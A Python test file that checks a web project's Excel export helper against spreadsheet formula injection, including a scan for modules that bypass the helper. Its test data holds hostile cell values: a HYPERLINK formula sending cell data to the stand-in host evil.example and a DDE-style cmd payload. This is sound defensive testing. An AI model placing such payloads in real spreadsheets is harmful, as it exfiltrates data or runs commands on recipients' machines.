"""Spreadsheet formula injection: every Excel export saves through shared_apps.web.xlsx."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from shared_apps.web import xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
ROOT = Path(__file__).resolve().parents[3]


def sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


ASCII = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1"]
FULL_WIDTH = ["\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1"]


@pytest.mark.parametrize("text", [*ASCII, *FULL_WIDTH])
def test_formula_like_text_is_written_as_quoted_text(text):
    book = Workbook()
    book.active.append([text, "正常", 42, -3])
    data = xlsx.to_bytes(book)
    assert "<f>" not in sheet_xml(data)
    cell = load_workbook(io.BytesIO(data)).active["A1"]
    # XML keeps a carriage return as a line feed; the text is otherwise unchanged.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix
    row = load_workbook(io.BytesIO(data)).active[1]
    assert [c.value for c in row[1:]] == ["正常", 42, -3] and not row[1].quotePrefix


def test_without_the_helper_openpyxl_writes_a_live_formula():
    # Why the helper exists: openpyxl's own save turns the citizen's title into a formula.
    book = Workbook()
    book.active.append([PAYLOAD])
    out = io.BytesIO()
    book.save(out)
    assert "<f>" in sheet_xml(out.getvalue())


def test_every_module_that_builds_a_workbook_saves_through_the_helper():
    offenders = []
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts)
        if parts & {".venv", "tests", "bench", "node_modules", ".local"} or path.name == "xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and "xlsx.to_bytes(" not in text:
            offenders.append(str(path.relative_to(ROOT)))
        if ".save(" in text and "Workbook(" in text and "book.save(" in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
